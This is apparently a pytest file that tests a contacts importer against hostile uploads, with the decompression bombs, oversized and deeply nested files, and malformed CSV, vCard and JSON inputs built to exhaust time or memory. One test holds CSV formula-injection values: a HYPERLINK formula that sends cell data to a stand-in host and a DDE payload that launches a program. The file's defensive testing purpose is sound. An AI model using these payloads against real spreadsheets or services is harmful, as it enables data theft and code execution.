"""Files made to cost more than they are worth: each is refused or read within seconds and a bounded memory."""

from __future__ import annotations

import gzip
import io
import json
import subprocess
import sys
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from meetups.exchange.parsed import MAX_BYTES, MAX_LINES, Parsed, Reason, Unreadable
from meetups.exchange.reading import read

SECONDS = 8.0  # of the processor, which others may slow down; alone the slowest here takes two
LARGEST = 9_900_000
NOTHING_MUCH = 100_000  # bytes, of a file that is refused for what it is
OWN_JSON = b'{"format": "meetward-contacts", "version": 1, "contacts": ['


def card(*lines: str) -> bytes:
    return "\r\n".join(("BEGIN:VCARD", "VERSION:3.0", *lines, "END:VCARD", "")).encode()


def archive(suffix: str) -> bytes:
    """Twenty megabytes of nothing, or a workbook, packed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        if suffix == "xlsx":
            packed.writestr("[Content_Types].xml", "<Types/>")
        packed.writestr(f"xl/{suffix}", bytes(20_000_000))
    return out.getvalue()


def in_time(data: bytes) -> Parsed | Unreadable:
    start = time.process_time()
    try:
        found: Parsed | Unreadable = read(data)
    except Unreadable as unreadable:
        found = unreadable
    assert time.process_time() - start < SECONDS
    return found


def refusal(data: bytes) -> Unreadable:
    found = in_time(data)
    assert isinstance(found, Unreadable)
    return found


def peak(data: bytes) -> int:
    """Bytes that reading took at its height, besides the file itself."""
    tracemalloc.start()
    try:
        in_time(data)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


HOSTILE: dict[str, tuple[Callable[[], bytes], Reason]] = {
    "nothing": (lambda: b"", Reason.EMPTY),
    "blanks": (lambda: b"\xef\xbb\xbf \r\n", Reason.EMPTY),
    "an old workbook": (lambda: b"\xd0\xcf\x11\xe0" + b"x" * 99, Reason.BINARY),
    "a null in a card": (lambda: card("FN:a\0b"), Reason.BINARY),
    "a null in a table": (lambda: b"First Name,Last Name,Connected On\nAda,\0King,1 May 2020\n", Reason.BINARY),
    "nulls": (lambda: bytes(LARGEST), Reason.BINARY),
    "too big": (lambda: b"x" * (MAX_BYTES + 1), Reason.TOO_BIG),
    "lines": (lambda: b"\n" * MAX_LINES + b"\na,b\nc,d", Reason.TOO_MANY_LINES),
    "columns": (lambda: b"a," * 499_000 + b"\n1,2\n", Reason.TOO_MANY_COLUMNS),
    "a million columns": (lambda: b"a," * 1_000_000 + b"\n1,2\n", Reason.LONG_LINE),
    "commas": (lambda: b"," * LARGEST, Reason.LONG_LINE),
    "folds": (lambda: b"BEGIN:VCARD\nNOTE:" + b"\n xxx" * 400_000, Reason.LONG_LINE),
    "soft breaks": (lambda: card("NOTE;ENCODING=QUOTED-PRINTABLE:" + "xxxx=\r\n" * 400_000), Reason.LONG_LINE),
    "a long line": (lambda: card("FN:a", "NOTE:" + "x" * 1_000_001), Reason.LONG_LINE),
    "a letter": (lambda: b"Dear Ada,\nhow are you?\nYours\nB.", Reason.NOT_RECOGNISED),
    "a page": (lambda: b"<html><body>no</body></html>", Reason.NOT_RECOGNISED),
    "other JSON": (lambda: b'{"people": []}', Reason.NOT_RECOGNISED),
    "brackets": (lambda: b"[" * 500_000, Reason.NOT_RECOGNISED),
    "too many brackets": (lambda: b"[" * 2_000_000, Reason.BROKEN),
    "braces": (lambda: b'{"a":' * 1_900_000, Reason.TOO_MANY),
    "empty texts": (lambda: b'{"contacts": [' + b'"",' * 3_000_000 + b"]}", Reason.BROKEN),
    "escaped quotes": (lambda: b'{"contacts": [{"name": "' + b'\\"' * 2_000_000, Reason.LONG_LINE),
    "escaped quotes and half of one": (lambda: b'{"contacts": [{"a": "' + b'\\"' * 2_000_000 + b"\\", Reason.LONG_LINE),
    "fewer and half of one": (lambda: b'{"contacts": [{"a": "' + b'\\"' * 400_000 + b"\\", Reason.BROKEN),
    "a newer version": (lambda: b'{"format": "meetward-contacts", "version": 2, "contacts": []}', Reason.NEWER),
    "deep lists": (lambda: OWN_JSON + b"[" * 90_000 + b"]}", Reason.BROKEN),
    "deep objects": (lambda: OWN_JSON + b'{"tags":' * 4_900 + b"1" + b"}" * 4_900 + b"]}", Reason.BROKEN),
    "a number of a million digits": (lambda: OWN_JSON + b'{"a":' + b"1" * 900_000 + b"}]}", Reason.BROKEN),
    "numbers for people": (lambda: OWN_JSON + b"1," * 400_000 + b"1]}", Reason.TOO_MANY),
    "quotes": (lambda: b'a,b\n"' + b'"' * LARGEST, Reason.LONG_LINE),
    "quotes that are never closed": (lambda: b'name,b\n"' + b"x\n" * 490_000, Reason.LONG_LINE),
    "quotes on every line": (lambda: b"First Name,Last Name,Connected On\n" + b'"a","\n"\n' * 200_000, Reason.TOO_MANY),
}


@pytest.mark.parametrize(("make", "reason"), HOSTILE.values(), ids=HOSTILE)
def test_hostile_files_are_refused(make: Callable[[], bytes], reason: Reason) -> None:
    assert refusal(make()).reason is reason


@pytest.mark.parametrize(
    "make", [lambda: archive("xlsx"), lambda: archive("zip"), lambda: gzip.compress(bytes(2 * 10**7))]
)
def test_archives_are_refused_and_never_unpacked(make: Callable[[], bytes]) -> None:
    data = make()
    assert refusal(data).reason is Reason.ARCHIVE
    assert peak(data) < NOTHING_MUCH


@pytest.mark.parametrize("size", [200_000_000, 30_000_000])
def test_a_file_far_too_big_is_not_looked_at(size: int) -> None:
    data = bytes(size)
    start = time.perf_counter()
    refused = refusal(data)
    assert time.perf_counter() - start < 0.5
    assert (refused.reason, refused.found, refused.limit) == (Reason.TOO_BIG, size, MAX_BYTES)
    assert peak(data) < NOTHING_MUCH


@pytest.mark.parametrize(
    "data",
    [
        b"BEGIN:VCARD\nFN:a\nEND:VCARD\n" * 50_000,
        b"First Name,Last Name,Connected On\n" + b"Ada,King,1 May 2020\n" * 50_000,
        OWN_JSON + b'{"name": "a"},' * 49_999 + b'{"name": "a"}]}',
    ],
    ids=["cards", "rows", "objects"],
)
def test_fifty_thousand_people_are_refused_with_the_limit(data: bytes) -> None:
    refused = refusal(data)
    assert (refused.reason, refused.found, refused.limit) == (Reason.TOO_MANY, 50_000, 5_000)


@pytest.mark.parametrize(
    "data",
    [b"BEGIN:VCARD\nFN:a\nEND:VCARD\n" * 5_000, OWN_JSON + b'{"name": "a"},' * 4_999 + b'{"name": "a"}]}'],
    ids=["cards", "objects"],
)
def test_as_many_people_as_there_may_be_are_read(data: bytes) -> None:
    found = in_time(data)
    assert isinstance(found, Parsed)
    assert len(found.entries) == 5_000


@pytest.mark.parametrize(
    "picture",
    [
        "PHOTO;ENCODING=b:" + "QUFB" * 2_250_000,
        "PHOTO;ENCODING=b:" + "\r\n ".join(["QUFB" * 18] * 125_000),
        "PHOTO;ENCODING=BASE64;JPEG:\r\n" + "\r\n".join(["QUFB" * 18] * 125_000) + "\r\n",
    ],
    ids=["one line", "folded", "unfolded"],
)
def test_a_picture_of_nine_megabytes_is_passed_over(picture: str) -> None:
    found = in_time(card("FN:Ada", picture) + card("FN:Bo"))
    assert isinstance(found, Parsed)
    assert [each.name for each in found.entries] == ["Ada", "Bo"]


def filled(one: str, before: str = "", after: str = "") -> bytes:
    """As many of one thing as the largest file takes, at most as many as there may be people."""
    count = min(4_999, (LARGEST - len(before)) // len(one.encode()))
    return f"{before}{one * count}{after}".encode()


WIDE = ",".join(["First Name", "Last Name", "Connected On", *(f"x{at}" for at in range(196))]) + "\n"
COSTLY: dict[str, tuple[Callable[[], bytes], int]] = {
    "a backslash at the end of lists": (
        lambda: filled("BEGIN:VCARD\nFN:a\n" + ("CATEGORIES:" + "a" * 8_191 + "\\\n") * 50 + "END:VCARD\n"),
        40,
    ),
    "escapes alone": (lambda: filled("BEGIN:VCARD\nFN:a\nNOTE:" + "\\\\\\;" * 12_000 + "\nEND:VCARD\n"), 40),
    "a value of nothing but folds": (lambda: card("FN:a", "NOTE:" + "\n " * 480_000), 40),
    "properties of nothing": (lambda: card("FN:a", *["URL:a"] * 480_000), 40),
    "lines that are none": (lambda: card("FN:a", *["x"] * 480_000), 40),
    "parameters": (lambda: filled(card("FN:a", "IMPP" + ";a=b" * 450 + ":a").decode()), 60),
    "signs nobody sees": (
        lambda: filled(f'{{"name":"a","note":"{chr(0x200B) * 16_000}"}},', OWN_JSON.decode(), "{}]}"),
        60,
    ),
    "objects of many keys": (
        lambda: filled('{"name":"a",' + ",".join(f'"{at}":0' for at in range(180)) + "},", OWN_JSON.decode(), "{}]}"),
        40,
    ),
    "lists in lists": (
        lambda: filled('{"name":"a","tags":' + "[" * 190 + "]" * 190 + "},", OWN_JSON.decode(), "{}]}"),
        40,
    ),
    "a wide table": (lambda: filled(",".join(f"{at:x}z" for at in range(199)) + "\n", WIDE), 120),
    "cells of quotes": (lambda: filled('a,"' + '""' * 900 + '"\n', "First Name,Last Name,Connected On\n"), 60),
}


# A process of its own, because tracemalloc makes this ten times slower.
MEASURED = """
import resource, sys, time
from meetups.exchange.reading import read
data = open(sys.argv[1], "rb").read()
before, start = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.process_time()
found = read(data)
print(len(found.entries), time.process_time() - start, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


@pytest.mark.skipif(sys.platform != "linux", reason="ru_maxrss is kilobytes on Linux only")
@pytest.mark.parametrize(("make", "megabytes"), COSTLY.values(), ids=COSTLY)
def test_what_costs_most_stays_within_seconds_and_memory(
    make: Callable[[], bytes], megabytes: int, tmp_path: Path
) -> None:
    data = make()
    assert LARGEST / 20 < len(data) <= MAX_BYTES
    file = tmp_path / "contacts"
    file.write_bytes(data)
    done = subprocess.run([sys.executable, "-c", MEASURED, file], capture_output=True, text=True, check=True)
    people, seconds, kilobytes = done.stdout.split()
    assert int(people) > 0
    assert float(seconds) < SECONDS
    assert int(kilobytes) < megabytes * 1_000


def test_formulas_are_texts_to_us() -> None:
    formula = '=HYPERLINK("http://x.example/?"&A1)'
    row = ",".join(f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in (formula, "@SUM(A1)", "-1+cmd|' /C calc'!A0"))
    found = read(f"First Name,Last Name,URL,Connected On\n{row},1 May 2020\n".encode())
    assert (found.entries[0].name, found.entries[0].handle) == (f"{formula} @SUM(A1)", "-1+cmd|' /C calc'!A0")


def test_a_text_of_our_json_may_hold_nulls_and_halves_of_signs_which_are_left_out() -> None:
    document = {"format": "meetward-contacts", "version": 1, "contacts": [{"name": "A\0d\ud800a", "note": "\0\0"}]}
    (found,) = read(json.dumps(document).encode()).entries
    assert (found.name.replace(" ", ""), found.note) == ("Ada", "")
